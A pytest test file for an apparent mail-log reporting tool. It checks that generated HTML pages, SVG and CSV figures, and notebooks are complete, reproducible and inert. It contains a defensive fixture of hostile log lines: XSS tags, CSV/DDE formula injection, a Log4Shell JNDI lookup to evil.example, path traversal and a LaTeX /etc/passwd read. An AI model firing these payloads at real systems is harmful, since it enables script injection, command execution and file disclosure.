"""The report: whole, safe against what a log holds, the same for the same log."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import nbformat
import pandas as pd
import pytest

import spamlab
from benchmarks.logs import write
from spamlab import atomic, execute, report, sources, stream, summary
from spamlab.cli import main

VOID = {"meta", "img", "br", "hr", "wbr"}

# Every field a stranger can write, holding what has broken other tools.
HOSTILE = r"""11/11/03 2:00:01 PM : A connection to <script>alert(1)</script> was established.
11/11/03 2:00:02 PM : <<< 220 <img src=x onerror=alert(1)> $\input{/etc/passwd}$ {ESC}[31mred{ESC}[0m ESMTP
11/11/03 2:00:03 PM : >>> EHLO "><svg/onload=alert(1)>.$x^2$.example
11/11/03 2:00:03 PM : <<< 250 **bold** [click](javascript:alert(1)) {RLO}gpj.exe
11/11/03 2:00:04 PM : >>> MAIL FROM:<> SIZE=2171
11/11/03 2:00:05 PM : <<< 250 =HYPERLINK("http://evil.example/","x")
11/11/03 2:00:06 PM : >>> RCPT TO:<=cmd|'/c calc'!A1@evil.example>
11/11/03 2:00:07 PM : <<< 550 <script>document.write(1)</script> </td></table><iframe src=//evil.example>
11/11/03 2:00:08 PM : >>> RSET
11/11/03 2:00:08 PM : <<< 250 {{7*7}} {% raw %} ${jndi:ldap://evil.example/a}
11/11/03 2:00:09 PM : >>> MAIL FROM:<> SIZE=2172
11/11/03 2:00:10 PM : <<< 250 ok
11/11/03 2:00:11 PM : >>> RCPT TO:<../../../../etc/cron.d/x@evil.example>
11/11/03 2:00:12 PM : <<< 550 @SUM(1) <a href="javascript:alert(1)">x</a>
11/11/03 2:00:13 PM : >>> RSET
11/11/03 2:00:13 PM : <<< 250 -2+3+cmd|' /C calc'!A0
11/11/03 2:00:14 PM : >>> QUIT
11/11/03 2:00:15 PM : <<< 221 $$\frac{1}{0}$$ <style>*{display:none}</style>
""".replace("{ESC}", "\x1b").replace("{RLO}", "\u202e")


class Page(HTMLParser):
    """What a browser would make of a page: tags, attributes, texts."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.open: list[str] = []
        self.texts: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, f"</{tag}> closes nothing"

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def values(self, *names: str) -> list[str]:
        return [value for _, name, value in self.attributes if name in names]


@pytest.fixture(scope="module")
def paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report on the white paper's log, with all kinds of figures."""
    out = tmp_path_factory.mktemp("paper") / "report"
    report.build("data/exchange55-appendix-a.log", out, figures=("svg", "png", "pdf"))
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report on a log made to do harm, under a name made to do harm."""
    folder = tmp_path_factory.mktemp("hostile")
    log = folder / "<img src=x onerror=alert(1)>'\" $x$\x1b[2J\u202e.log"
    log.write_text(HOSTILE, encoding="utf-8")
    report.build(log, folder / "report")
    return folder / "report"


@pytest.fixture(params=["paper", "hostile"])
def either(request: pytest.FixtureRequest) -> Path:
    return request.getfixturevalue(request.param)


def test_everything_is_there(paper: Path) -> None:
    names = [path.name for path in execute.notebooks()]
    assert sorted(path.name for path in (paper / "notebooks").iterdir()) == names
    assert sorted(path.name for path in paper.iterdir()) == sorted(
        [".spamlab", "figures", "index.html", "notebooks", "provenance.json", "tables"]
    )
    figures = {path.stem for path in (paper / "figures").glob("*.svg")}
    assert len(figures) >= len(names)
    for figure in figures:
        for kind, start in (("png", b"\x89PNG"), ("pdf", b"%PDF"), ("svg", b"<?xml")):
            assert (paper / "figures" / f"{figure}.{kind}").read_bytes().startswith(start)
    assert {path.stem for path in (paper / "figures").glob("*.csv")} == figures
    assert "06-mail" in figures


def test_a_figure_with_nothing_to_show_is_a_sentence(paper: Path) -> None:
    """With one loop there is nothing to compare; links to the figure lead to what is said."""
    text = (paper / "index.html").read_text(encoding="utf-8")
    assert re.search(
        '<p id="figure-04-all-loops">[^<]*With fewer than three loops there is nothing to compare.</p>', text
    )
    assert not list((paper / "figures").glob("04-all-loops.*"))


def test_the_page_begins_with_what_its_reader_asks(paper: Path, hostile: Path) -> None:
    """The paper's log in the paper's order; any other log with its mail and what reports cost."""
    order = {}
    for name, folder in (("paper", paper), ("other", hostile)):
        text = (folder / "index.html").read_text(encoding="utf-8")
        order[name] = re.findall('<section class="notebook" id="([^"]+)"', text)
        listed = text[text.index('id="contents"') : text.index('class="notebook"')]
        assert re.findall('href="#([^"]+)"', listed) == [*order[name], "provenance"]
        assert "change the path" not in text
        assert not re.search(r"<h\d>\d\. ", text)  # a notebook's number says nothing of its place here
    names = [path.stem for path in execute.notebooks()]
    assert order["paper"] == names
    assert order["other"][:3] == ["06-traffic", "05-backscatter", "01-the-log"]
    assert sorted(order["other"]) == names


def test_what_scrolls_can_be_reached_and_has_a_name(either: Path) -> None:
    text = (either / "index.html").read_text(encoding="utf-8")
    boxes = re.findall("<[^>]*tabindex[^>]*>", text)
    assert boxes
    assert all('role="group"' in box and re.search('aria-label="[^"]+"', box) for box in boxes)


def test_the_page_needs_nothing_and_runs_nothing(either: Path) -> None:
    text = (either / "index.html").read_text(encoding="utf-8")
    page = Page(text)
    assert page.open == []
    allowed = "html head meta title style body header main section nav div p h1 h2 h3 h4 dl dt dd ol ul li a"
    allowed += " em strong code table caption thead tbody tr th td figure img figcaption pre blockquote sup br wbr"
    assert set(page.tags) <= set(allowed.split())
    assert not [
        name for _, name, _ in page.attributes if name.startswith("on") or name in ("srcset", "srcdoc", "style")
    ]
    assert all(src.startswith("data:image/") for src in page.values("src"))
    ids = page.values("id")
    assert len(ids) == len(set(ids))
    for link in page.values("href"):
        if link.startswith("#"):
            assert link[1:] in ids
        elif not link.startswith("https://"):  # prose may cite its sources
            assert (either / link).is_file(), link
    policy = next(value for _, name, value in page.attributes if name == "content" and "default-src" in value)
    assert policy.startswith("default-src 'none'; img-src data:;")
    css = re.search("<style>(.*?)</style>", text, re.S)
    assert css
    digest = hashlib.sha256(css[1].encode()).digest()
    import base64

    assert base64.b64encode(digest).decode() in policy
    assert "url(" not in css[1]
    assert "@import" not in css[1]


def test_figures_have_words(either: Path) -> None:
    page = Page((either / "index.html").read_text(encoding="utf-8"))
    words = page.values("alt")
    assert len(words) == page.tags.count("img") == page.tags.count("figure") > 0
    assert all(len(alt) > 20 for alt in words)
    assert not any("Figure size" in alt for alt in words)


def test_the_summary_stands_on_top(paper: Path) -> None:
    text = (paper / "index.html").read_text(encoding="utf-8")
    top = text[: text.index('class="notebook"')]
    assert top.count("<dd>") == len(execute.notebooks())
    for number in ("72", "8"):
        assert f"<td>{number}</td>" in top


def test_what_the_log_holds_is_shown_as_text(hostile: Path) -> None:
    page = Page((hostile / "index.html").read_text(encoding="utf-8"))
    shown = "".join(page.texts)
    assert "<img src=x onerror=alert(1)>" in shown  # the file's name, at least
    everything = [
        shown,
        *page.values("alt", "title"),
        *(p.read_text("utf-8") for p in (hostile / "figures").glob("*.csv")),
    ]
    for text in everything:
        assert not {"\x1b", "\u202e"} & set(text)
    assert "MathJax" not in shown


def test_figure_files_do_nothing(either: Path) -> None:
    for path in (either / "figures").iterdir():
        assert re.fullmatch(r"[a-z0-9-]+\.(svg|png|pdf|csv)", path.name)
    for path in (either / "figures").glob("*.svg"):
        svg = ElementTree.parse(path)
        tags = {str(element.tag).rpartition("}")[2] for element in svg.iter()}
        assert not tags & {"script", "foreignObject", "a", "animate", "set", "date"}
        for name, value in (item for element in svg.iter() for item in element.attrib.items()):
            assert not name.startswith("on")
            assert "href" not in name or value.startswith(("#", "data:image/png;base64,"))
            assert "javascript:" not in value
    for path in (either / "figures").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        for cell in cells:
            assert not re.match(r"[=@\t\r]|[+-](?![\d.]+(e[+-]?\d+)?$)", cell), cell


def test_executed_notebooks_show_text_only(either: Path) -> None:
    for path in sorted((either / "notebooks").iterdir()):
        notebook = nbformat.read(path, as_version=4)
        for output in (o for cell in notebook.cells for o in cell.get("outputs", [])):
            assert output.output_type in ("stream", "display_data", "execute_result")
            assert set(output.get("data", {})) <= {"text/plain", "text/html", "image/png"}
            page = Page(output.get("data", {}).get("text/html", ""))
            assert not set(page.tags) & {"script", "iframe", "svg", "a", "object", "embed", "form"}
            assert not [name for _, name, _ in page.attributes if name.startswith("on")]
            assert all(src.startswith("data:image/png;base64,") for src in page.values("src"))
            if "table" in page.tags:
                assert "mathjax_ignore" in " ".join(page.values("class"))


def test_numbers_of_the_files_have_their_thousands_parted(paper: Path) -> None:
    assert "<td>4,934</td>" in (paper / "index.html").read_text(encoding="utf-8").partition('id="provenance"')[2]


def test_what_is_assumed_stands_in_the_page(paper: Path) -> None:
    assert "WireModel(mss=1460" in (paper / "index.html").read_text(encoding="utf-8")


def test_cells_say_what_they_hold_for_the_look_of_the_table() -> None:
    """Numbers and times stay whole on paper, names may break, headings break at their underscores."""
    table = "<tr><th>octets_in</th><th>at</th><th>to</th></tr>"
    table += "<tr><td>1,000</td><td>2026-03-11 00:00:00</td><td>somebody@example.org</td></tr>"
    shown = report._columns(table)
    assert '<th class="number">octets_<wbr>in</th>' in shown
    assert '<td class="time">2026-03-11 00:00:00</td><td class="name">somebody@example.org</td>' in shown


def test_provenance(paper: Path, appendix: Path) -> None:
    told = json.loads((paper / "provenance.json").read_text(encoding="utf-8"))
    (source,) = told["sources"]
    assert source["sha256"] == hashlib.sha256(appendix.read_bytes()).hexdigest()
    assert source["tz_assumed"] == "UTC"
    assert told["parameters"]["figures"] == ["svg", "png", "pdf"]
    assert {"spamlab", "python", "pandas", "matplotlib"} <= set(told["versions"])


def test_the_same_log_gives_the_same_report(paper: Path, appendix: Path, tmp_path: Path) -> None:
    report.build(str(appendix.relative_to(Path.cwd())), tmp_path / "again", figures=("svg", "png", "pdf"))
    first, again = (
        {path.relative_to(root): path.read_bytes() for path in sorted(root.rglob("*")) if path.is_file()}
        for root in (paper, tmp_path / "again")
    )
    assert list(first) == list(again)
    assert [name for name in first if first[name] != again[name]] == []


def test_the_report_s_notebooks_run_where_they_are(paper: Path) -> None:
    path = sorted((paper / "notebooks").iterdir())[0]
    execute.run([path])


def failing(folder: Path, source: str) -> Path:
    cells = [
        nbformat.v4.new_code_cell('log_path = ""', metadata={"tags": ["parameters"]}),
        nbformat.v4.new_code_cell(source),
    ]
    metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata=metadata), folder / "01-fails.ipynb")
    return folder / "01-fails.ipynb"


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("1 / 0", "01-fails.ipynb, at `1 / 0`: ZeroDivisionError"),
        (
            "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
            "01-fails.ipynb: the Python that ran it died",
        ),
    ],
)
def test_a_notebook_that_fails(
    tmp_path: Path, appendix: Path, monkeypatch: pytest.MonkeyPatch, source: str, said: str
) -> None:
    path = failing(tmp_path, source)
    monkeypatch.setattr(execute, "notebooks", lambda: [path, *[path] * 3])
    with pytest.raises(execute.NotebookFailed, match=said):
        report.build(appendix, tmp_path / "out")
    assert list(tmp_path.iterdir()) == [path]


def test_a_parameter_that_a_notebook_does_not_have_is_refused(tmp_path: Path) -> None:
    with pytest.raises(execute.NotebookFailed, match="no parameter logpath"):
        execute.run([failing(tmp_path, "pass")], {"logpath": "x"})


def test_an_unknown_kind_of_figure_is_refused(appendix: Path, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="gif"):
        report.build(appendix, tmp_path / "out", figures=("gif",))
    assert not (tmp_path / "out").exists()


def test_a_user_s_own_kernels_and_settings_do_not_matter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    kernel = tmp_path / "home" / ".local/share/jupyter/kernels/python3"
    kernel.mkdir(parents=True)
    (kernel / "kernel.json").write_text('{"argv": ["/bin/false"], "display_name": "x", "language": "python"}')
    (tmp_path / "home").chmod(0o500)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("JUPYTER_PATH", str(kernel.parent.parent))
    path = failing(tmp_path, "import sys; print(sys.executable)")
    (made,) = execute.run([path])
    assert made.cells[1].outputs[0].text.strip() == sys.executable


@pytest.mark.parametrize("way", ["file", "gzip", "pipe", "standard input"])
def test_a_log_too_large_for_memory_becomes_tables_part_by_part(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], way: str
) -> None:
    """The same tables, of the span asked for; they stay and are a log themselves."""
    log, out = tmp_path / "mail.log", tmp_path / "report"
    write("postfix", log, 3_000_000)
    whole = spamlab.read(log, format="postfix", tz="Europe/Berlin", year=2027)
    at_once = whole.between("2027-03-10T23:05:00")
    assert len(whole.events) > len(at_once.events) > 0
    monkeypatch.setattr(report, "LARGE", 4 * log.stat().st_size if way == "gzip" else 2_900_000)
    monkeypatch.setattr(stream, "WINDOW", 1_000_000)
    monkeypatch.setattr(stream, "GRACE", pd.Timedelta(minutes=2))
    monkeypatch.setattr(sources, "READ", 200_000)
    monkeypatch.setattr(sources.Source.text, "__defaults__", (200_000,))
    monkeypatch.setattr(execute, "notebooks", lambda: [failing(tmp_path, "print('answer')")])
    monkeypatch.setattr(spamlab, "read", None)
    given = str(log)
    if way == "gzip":
        given += ".gz"
        Path(given).write_bytes(gzip.compress(log.read_bytes(), 0))  # counts ten times
    elif way == "pipe":
        given = str(tmp_path / "pipe")
        os.mkfifo(given)
        threading.Thread(target=lambda: Path(given).write_bytes(log.read_bytes()), daemon=True).start()
    elif way == "standard input":
        given = "-"
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(log.read_bytes())))
    options = ["--format", "postfix", "--tz", "Europe/Berlin", "--year", "2027", "--since", "2027-03-11T00:05"]
    assert main(["report", given, "-o", str(out), *options]) == 0
    assert f"Its tables: {out / 'tables'} (a log to all commands)" in capsys.readouterr().out
    assert len(json.loads((out / "tables" / "spamlab-log.json").read_text())["rows"]) > 2
    monkeypatch.undo()
    found = spamlab.read(out / "tables")
    for name in ("events", "sessions", "transactions", "recipients"):
        assert len(getattr(found, name)) == len(getattr(at_once, name))
    assert summary.totals(found) == summary.totals(at_once)
    assert found.events["time"].min() == at_once.events["time"].min()
    told = json.loads((out / "provenance.json").read_text())
    assert told["parameters"]["tz"] == "Europe/Berlin" and told["sources"][0]["tz_assumed"] == "Europe/Berlin"
    assert main(["summary", str(out / "tables")]) == 0


def test_a_stretch_of_a_converted_log(tmp_path: Path, appendix: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spamlab.read(appendix).to_parquet(tmp_path)
    monkeypatch.setattr(execute, "notebooks", lambda: [failing(tmp_path, "print('answer')")])
    page = report.build(tmp_path, tmp_path / "out", since=pd.Timestamp("2003-11-11T14:00:10", tz="UTC"))
    found = spamlab.read(page.parent / "tables")
    pd.testing.assert_frame_equal(found.events, spamlab.read(appendix).between("2003-11-11T14:00:10").events)


def begun(folder: Path, process: subprocess.Popen[bytes]) -> None:
    """Wait until a report into ``folder/report`` is well under way."""
    deadline = time.monotonic() + 120
    while not list(folder.glob(".report.*/figures/*")):
        assert time.monotonic() < deadline
        assert process.poll() is None, process.stderr and process.stderr.read()
        time.sleep(0.05)


def test_ctrl_c(appendix: Path, tmp_path: Path, spamlab_command: Callable[..., list[str]]) -> None:
    command = spamlab_command("report", appendix, "-o", tmp_path / "report")
    with subprocess.Popen(command, stderr=subprocess.PIPE) as process:
        begun(tmp_path, process)
        process.send_signal(signal.SIGINT)
        assert process.wait(60) == 130
        assert process.stderr
        assert process.stderr.read() == b""
    assert list(tmp_path.iterdir()) == []


def test_killed_in_the_middle(appendix: Path, tmp_path: Path, spamlab_command: Callable[..., list[str]]) -> None:
    out = tmp_path / "report"
    with atomic.folder(out) as build:
        (build / "index.html").write_text("old")
    with subprocess.Popen(spamlab_command("report", appendix, "-o", out), stderr=subprocess.PIPE) as process:
        begun(tmp_path, process)
        process.send_signal(signal.SIGKILL)
    assert (out / "index.html").read_text() == "old"
    assert len(list(out.iterdir())) == 2
    with atomic.folder(out):
        pass
    assert list(tmp_path.iterdir()) == [out]


def test_the_page_follows_a_dark_preference_with_figures_on_a_light_card() -> None:
    css = (report.TEMPLATES / "page.css").read_text(encoding="utf-8")
    dark = css.partition("@media screen and (prefers-color-scheme: dark)")[2].partition("\n* {")[0]
    assert "figure img { background: #fff;" in dark
    assert set(re.findall(r"var\((--\w+)\)", css)) <= set(re.findall(r"(--\w+):", dark))


def test_on_the_page_an_answer_leads_to_the_part_not_to_a_notebook() -> None:
    titles = {"06": ("06-traffic", "How much <mail>?"), "01": ("01-the-log", "What is in it")}
    shown = report._chapters("<i> It states delays: see notebook 06 (traffic.delays). Or see notebook 01.", titles)
    assert shown == (
        '&lt;i&gt; It states delays: see <a href="#06-traffic">How much &lt;mail&gt;?</a> '
        'Or see <a href="#01-the-log">What is in it</a>.'
    )
